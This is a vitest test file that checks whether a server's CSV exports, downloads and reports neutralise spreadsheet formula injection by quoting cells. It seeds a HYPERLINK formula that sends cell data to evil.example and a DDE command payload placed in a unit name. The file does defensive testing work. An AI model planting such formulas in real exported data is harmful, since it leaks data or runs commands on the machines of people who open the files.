import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { unquoteFormula, quoteFormula } from "../../../server/src/domain/csv-formula.js";
import { testDrivers } from "../../support/databases.js";
import { dataOf, startTestServer, type TestServer } from "../../support/test-server.js";

/** Text a spreadsheet would run: a formula that sends data away, a negative number, a function, a phone number. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
const CASES = [
  { code: "F-1", procedureName: "-5", applicantName: HYPERLINK },
  { code: "F-2", procedureName: "+84 912 345 678", applicantName: "@SUM(1+1)" },
];

/** No cell of a CSV text starts with a formula's first character. */
function expectNoFormula(csv: string) {
  const cells = (parse(csv.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
}

describe("the formula rule", () => {
  it("quotes a text cell that starts a formula and takes exactly one such quote away again", () => {
    for (const text of ["=1+1", "+84", "-5", "@SUM(A1)", "\tx", "\rx", HYPERLINK, "a=b", "5-3", "", "'x"]) {
      expect(unquoteFormula(quoteFormula(text))).toBe(text);
    }
    expect(quoteFormula("-5")).toBe("'-5");
    // Text that itself begins with a quote and a formula's first character loses that quote on import (the rule's one ambiguity).
    expect(unquoteFormula(quoteFormula("'=x"))).toBe("=x");
    expect(quoteFormula("Cấp phép")).toBe("Cấp phép");
    expect(unquoteFormula("'Cấp")).toBe("'Cấp");
  });
});

describe.each(testDrivers())("formulas in the CSV files written and read on %s", (driver) => {
  let server: TestServer;
  let directiveId: string;

  beforeAll(async () => {
    server = await startTestServer(driver);
    dataOf(await server.gql(`mutation { upsertUnit(input: { code: "VP", name: "=cmd|' /C calc'!A0", kind: DEPARTMENT }) { id } }`));
    directiveId = dataOf<{ createDirective: { id: string } }>(
      await server.gql(`mutation ($i: DirectiveInput!) { createDirective(input: $i) { id } }`, {
        i: { number: "9/TB-BQL", subject: "Rà soát", issuedOn: "2023-11-08", periodStart: "2023-01-01", periodEnd: "2023-12-31", deadline: "2023-11-17" },
      }),
    ).createDirective.id;
    for (const c of CASES) {
      dataOf(
        await server.gql(`mutation ($i: CaseInput!) { upsertCase(input: $i) { code } }`, {
          i: { ...c, unitCode: "VP", receivedAt: "2023-11-01T08:00:00+07:00", dueAt: "2023-11-17T17:00:00+07:00" },
        }),
      );
    }
  });
  afterAll(() => server?.close());

  const stored = async () =>
    dataOf(await server.gql(`{ cases(filter: { unitCode: "VP" }, first: 10) { edges { node { code procedureName applicantName } } } }`)).cases.edges.map(
      (e: { node: unknown }) => e.node,
    );

  it("exports quote them, and importing the export changes nothing", async () => {
    const exported = dataOf(
      await server.gql(`query ($d: ID!) { exportForImport(kind: CASES, directiveId: $d) { contentBase64 } }`, { d: directiveId }),
    ).exportForImport;
    const csv = Buffer.from(exported.contentBase64, "base64").toString("utf8");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm vào đây"")"`);
    expect(csv).toContain(",'-5,");
    expect(csv).toContain(",'+84 912 345 678,'@SUM(1+1),");
    expectNoFormula(csv);
    const before = await stored();
    const result = dataOf(await server.gql(`mutation ($csv: String!) { importCases(csv: $csv) { created updated unchanged errorCount } }`, { csv }));
    expect(result.importCases).toEqual({ created: 0, updated: 0, unchanged: 2, errorCount: 0 });
    expect(await stored()).toEqual(before);
    expect(before.find((c: { code: string }) => c.code === "F-1")).toEqual({ code: "F-1", ...CASES[0] });
  });

  it("the download quotes them too, and the CSV report quotes text cells (numbers keep their sign)", async () => {
    const response = await fetch(`${server.url}/exports/cases.csv?directiveId=${directiveId}`, { headers: { authorization: `Bearer ${ADMIN}` } });
    expect(response.status).toBe(200);
    const download = await response.text();
    expectNoFormula(download);
    expect(download).toContain(",'-5,");
    const report = dataOf(
      await server.gql(`query ($d: ID!) { complianceReport(directiveId: $d, format: CSV) { contentBase64 } }`, { d: directiveId }),
    ).complianceReport;
    const text = Buffer.from(report.contentBase64, "base64").toString("utf8");
    expect(text).toContain(",'=cmd|' /C calc'!A0,");
    expectNoFormula(text);
  });
});

const ADMIN = "test-admin-token-0123456789abcdef";
